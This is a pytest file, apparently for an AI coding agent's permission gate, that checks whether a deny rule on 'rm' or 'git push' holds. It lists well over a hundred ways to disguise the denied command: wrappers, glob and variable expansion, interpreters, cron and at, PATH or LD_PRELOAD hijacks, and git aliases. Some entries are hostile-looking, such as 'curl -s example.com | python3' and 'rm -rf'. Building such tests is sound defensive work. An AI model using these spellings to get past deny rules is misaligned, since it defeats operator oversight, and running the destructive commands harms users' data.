"""A deny rule holds for every command that might be the denied one (issue 11, class 2).

With ``Bash(rm:*)`` denied in ``bypassPermissions``, each spelling below must be denied or
asked (never run without a word): wrappers with their options, expansion in the command
word, and code handed to an interpreter. Under ``--no-prompt`` every one is denied. The
ordinary commands at the end still run.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from permission_harness import Workspace, workspace


@pytest.fixture
def space(tmp_path: Path) -> Iterator[Workspace]:
    yield from workspace(tmp_path)


WRAPPED = [
    "nice rm x",
    "nice -n 19 rm x",
    "nice -19 rm x",
    "nice --adjustment=5 rm x",
    "ionice -c3 rm x",
    "ionice -c 2 -n 7 rm x",
    "ionice -t rm x",
    "taskset 0x1 rm x",
    "taskset -c 0,1 rm x",
    "chrt 5 rm x",
    "chrt -f 10 rm x",
    "chrt -b 0 rm x",
    "flock /tmp/lock rm x",
    "flock -x -w 3 /tmp/lock rm x",
    "flock /tmp/lock -c 'rm x'",
    "flock --command 'rm x' /tmp/lock",
    "setsid rm x",
    "setsid -f rm x",
    "setsid --wait rm x",
    "script -qc 'rm x' /dev/null",
    "script -c 'rm x'",
    "script --command='rm x' log",
    "watch rm x",
    "watch -n 1 rm x",
    "watch -n1 'rm x'",
    "watch --interval=1 --no-title 'rm -rf x'",
    "timeout 5 rm x",
    "timeout -s KILL 5 rm x",
    "timeout --kill-after=1 5 rm x",
    "nohup rm x",
    "stdbuf -oL rm x",
    "stdbuf --output=0 rm x",
    "env rm x",
    "env -i PATH=/bin rm x",
    "env -u HOME rm x",
    "env -S 'rm x'",
    "env --split-string='rm x'",
    "sudo rm x",
    "sudo -u root -g wheel rm x",
    "sudo -E rm x",
    "sudo -s rm x",
    "sudo -i rm x",
    "doas rm x",
    "doas -u root rm x",
    "time rm x",
    "time -p rm x",
    "command rm x",
    "command -p rm x",
    "builtin rm x",
    "exec rm x",
    "exec -a name rm x",
    "exec -cl rm x",
    "xargs rm < list",
    "xargs -0 rm < list",
    "xargs -I{} rm {} < list",
    "xargs -n1 -P4 rm < list",
    "parallel rm ::: a b",
    "parallel -j2 'rm {}' ::: a b",
    "unbuffer rm x",
    "unbuffer -p rm x",
    "strace rm x",
    "strace -f -o /tmp/log rm x",
    "strace -e trace=file rm x",
    "ltrace rm x",
    "ltrace -f rm x",
    "firejail rm x",
    "firejail --quiet --noprofile rm x",
    "systemd-run rm x",
    "systemd-run --user --wait -p Nice=5 rm x",
    "chronic rm x",
    "ifne rm x",
    "nocache rm x",
    "eatmydata rm x",
    "fakeroot rm x",
    "catchsegv rm x",
    "busybox rm x",
    "toybox rm x",
    "setpriv --reuid=1000 rm x",
    "prlimit --nofile=10 rm x",
    "numactl --cpunodebind=0 rm x",
    "unshare -r rm x",
    "nsenter -t 1 -m rm x",
    "chroot / rm x",
    "runuser -u nobody rm x",
    "runuser -l nobody -c 'rm x'",
    "su -c 'rm x'",
    "su - root -c 'rm x'",
    "sg wheel -c 'rm x'",
    "cgexec -g cpu:/ rm x",
    "faketime '2020-01-01' rm x",
    "xvfb-run -a rm x",
    "valgrind --tool=none rm x",
    "torsocks rm x",
    "proxychains -q rm x",
    "trickle -d 10 rm x",
    "setarch x86_64 rm x",
    "linux64 rm x",
    "lckdo /tmp/lock rm x",
    "nice timeout 5 sudo env rm x",
    "nice nice nice nice nice nice nice nice nice nice rm x",
    "coproc rm x",
    "sem -j2 rm x",
    "entr -s 'rm x' < files",
    "ts rm x",
    "tmux new-session -d 'rm x'",
    "screen -dm rm x",
    "ssh host rm x",
    "tar --to-command=rm -xf a.tar",
    "man -P rm ls",
    "asciinema rec -c 'rm x'",
    "retry rm x",
    "dtach -c /tmp/s rm x",
    "nice --frobnicate rm x",
    "timeout --bogus 5 rm x",
    "sudo --weird rm x",
]

EXPANDED = [
    "r\\\nm x",
    "r\\\nm -rf x",
    "/bin/r\\\nm x",
    "{rm,x}",
    "{rm,-rf,x}",
    "/bin/r? x",
    "/bin/r[m] x",
    "/usr/bin/r* x",
    "r* x",
    "[r]m x",
    "~/bin/rm x",
    "~root/rm x",
    "$CMD x",
    "${CMD} x",
    "$(echo rm) x",
    "`echo rm` x",
    "$'\\x72m' x",
    '"$X" x',
    "r$EMPTY'm' x",
    "\\r\\m x",
    "/bin/rm x",
    "'/bin/rm' x",
    "./rm x",
]

INTERPRETED = [
    "bash -c 'rm x'",
    "sh -c 'rm x'",
    "bash -xc 'rm x'",
    "bash -o pipefail -c 'rm x'",
    "zsh -c 'rm x'",
    "dash -ec 'rm x'",
    'bash -c "$CMD"',
    "bash <<< 'rm x'",
    "bash <<<'rm x'",
    'sh <<< "rm x"',
    "echo 'rm x' | bash",
    "echo rm x | sh",
    "printf 'rm x' | sh -s",
    "bash < script.sh",
    "bash -",
    "cat cmds | zsh",
    "bash <<'EOF'\nrm x\nEOF",
    "eval 'rm x'",
    "eval rm x",
    'eval "$CMD"',
    "trap 'rm x' EXIT",
    "trap -- 'rm x' INT TERM",
    'trap "$CMD" EXIT',
    "source <(echo rm x)",
    ". <(echo rm x)",
    "source /dev/stdin <<< 'rm x'",
    "source $FILE",
    ". /dev/fd/0 < cmds",
    "alias ls='rm -rf x'",
    "awk 'BEGIN { system(\"rm x\") }'",
    "awk '{ print | \"sh\" }' list",
    "gawk 'BEGIN { \"rm x\" | getline }'",
    "awk -f prog.awk x",
    'awk "$PROG" x',
    "sed -n '1e rm x' f",
    "sed 's/.*/rm x/e' f",
    "sed -f script.sed f",
    "python -c 'import os; os.system(\"rm x\")'",
    "python3 -c 'print(1)'",
    "python3 -Ic 'print(1)'",
    "perl -e 'system(\"rm x\")'",
    "ruby -e 'system(\"rm x\")'",
    'node -e \'require("child_process").execSync("rm x")\'',
    "php -r 'system(\"rm x\");'",
    "curl -s example.com | python3",
    "git -c alias.x='!rm x' x",
    "git -c core.pager='rm x' log",
    "git --config-env=core.editor=ED commit",
    "git x",
    "git my-alias",
    "git rebase -x 'rm x' main",
    "git rebase --exec='rm x' main",
    "git bisect run rm x",
    "git submodule foreach 'rm x'",
    "git difftool -x 'rm' HEAD",
    "find . -exec rm {} ;",
    "find . -execdir rm {} +",
    "find . -ok rm {} ;",
    "find . -name x -exec {} ;",
    "hash -p /bin/rm ls; ls",
    "PATH=/tmp ls",
    "PATH=.:$PATH ls",
    "export PATH=/tmp/evil; ls",
    "declare -x PATH=/tmp; ls",
    "read PATH < f; ls",
    "GIT_EXTERNAL_DIFF='rm x' git diff",
    "GIT_PAGER='rm x' git log",
    "LD_PRELOAD=./evil.so ls",
    "BASH_ENV=./x bash script.sh",
    "vim -c '!rm x' f",
    "gdb -ex '!rm x'",
    # Code read from stdin through a file name that means stdin.
    "bash /dev/stdin <<< 'rm x'",
    "sh /dev/fd/0 <<< 'rm x'",
    "zsh /proc/self/fd/0 <<< 'rm x'",
    "python3 /dev/stdin <<< 'import os; os.remove(\"x\")'",
    "perl /dev/fd/0 <<< 'unlink \"x\"'",
    "echo 'rm x' | bash /dev/stdin",
    # make reading its recipes from stdin.
    "make -f - <<< 'all: ; rm x'",
    "make -f- <<< 'all: ; rm x'",
    "make --file=- <<< 'all: ; rm x'",
    "make --makefile /dev/stdin <<< 'all: ; rm x'",
    "echo 'all: ; rm x' | make -f -",
    "printf 'all:\\n\\trm x\\n' | make -f /dev/fd/0",
    # Schedulers: their commands come from stdin or a file.
    "at now <<< 'rm x'",
    "at now + 1 minute <<< 'rm x'",
    "echo 'rm x' | at midnight",
    "at -f job.sh now",
    "batch <<< 'rm x'",
    "crontab <<< '* * * * * rm x'",
    "crontab jobs.txt",
    "echo '* * * * * rm x' | crontab -",
    # A debugger starting the program after --args; parallel with its commands as arguments.
    "gdb --args rm x",
    "gdb -q --args rm -rf x",
    "gdb --batch -ex run --args rm x",
    "parallel ::: 'rm x'",
    "parallel -j2 ::: 'rm a' 'rm b'",
    "parallel :::: commands.txt",
    "echo 'rm x' | parallel",
    # direnv exec DIR COMMAND.
    "direnv exec . rm x",
    "direnv exec /tmp rm -rf x",
    "direnv exec . sh -c 'rm x'",
]

ORDINARY = [
    "ls -la",
    "echo rm",
    "echo 'rm -rf x'",
    "git rm x",
    "git status",
    "git commit -m 'rm old files'",
    "rmdir x",
    "command -v rm",
    "type rm",
    "which rm",
    "man rm",
    "grep -r rm .",
    "cat rm.txt",
    "npm test",
    "make build",
    "python3 script.py",
    "bash build.sh",
    "FOO=1 npm test",
    "find . -name '*.py' -print",
    "awk '{print $1}' f",
    "sed -i 's/a/b/' f",
    "sort -u f",
    "ls *.py",
    "timeout 5 npm test",
    "nice -n 5 make",
    "make -f Makefile.ci all",
    "crontab -l",
    "at -l",
    "direnv allow",
    "direnv exec . npm test",
    "gdb --args ls -la",
    "parallel echo ::: a b",
]


@pytest.mark.parametrize("command", WRAPPED + EXPANDED + INTERPRETED)
def test_every_spelling_is_denied_or_asked(space: Workspace, command: str) -> None:
    gate = space.gate({"permissions": {"deny": ["Bash(rm:*)"]}}, mode="bypassPermissions")
    decision = space.decide(gate, "Bash", {"command": command})
    assert decision.kind in ("deny", "ask"), (command, decision)
    if decision.kind == "ask":
        assert decision.firm  # a hook's allow cannot skip it either
        assert "Bash(rm:*)" in decision.reason


@pytest.mark.parametrize("command", WRAPPED[:20] + EXPANDED[:6] + INTERPRETED[:20])
def test_under_no_prompt_they_are_denied(space: Workspace, command: str) -> None:
    gate = space.gate(
        {"permissions": {"deny": ["Bash(rm:*)"]}}, mode="bypassPermissions", no_prompt=True
    )
    call = space.call("Bash", {"command": command})
    import anyio

    verdict = anyio.run(gate.before_run, call)
    assert type(verdict).__name__ == "Deny", command


@pytest.mark.parametrize("command", ORDINARY)
def test_ordinary_commands_still_run(space: Workspace, command: str) -> None:
    gate = space.gate({"permissions": {"deny": ["Bash(rm:*)"]}}, mode="bypassPermissions")
    assert space.decide(gate, "Bash", {"command": command}).kind == "allow", command


@pytest.mark.parametrize(
    "command",
    [
        "nice git push --force",
        "flock /tmp/l git push -f",
        "bash -c 'git push --force origin main'",
        "git -c alias.p=push p",
        "xargs git push < remotes",
        "watch git push",
        # git's own options before the subcommand: the rule sees `git push`
        "git -C . push",
        "git -C. push origin main",
        "git -Csub push",
        "git --git-dir=.git push",
        "git --git-dir .git push -f",
        "git --work-tree=. push",
        "git --work-tree . --git-dir .git push",
        "git -P push",
        "git --no-pager push --tags",
        "git --paginate push",
        "git --bare push",
        "git --literal-pathspecs push",
        "git --noglob-pathspecs --no-replace-objects push",
        "git --namespace=x push",
        "git --namespace x push",
        "git -C . -C .. push",
        'git -C "$D" push',
        "nice git -C . push",
        "timeout 5 git --no-pager push",
        "bash -c 'git -C . push'",
    ],
)
def test_a_multi_word_rule_holds_through_wrappers(space: Workspace, command: str) -> None:
    gate = space.gate({"permissions": {"deny": ["Bash(git push:*)"]}}, mode="bypassPermissions")
    assert space.decide(gate, "Bash", {"command": command}).kind in ("deny", "ask"), command
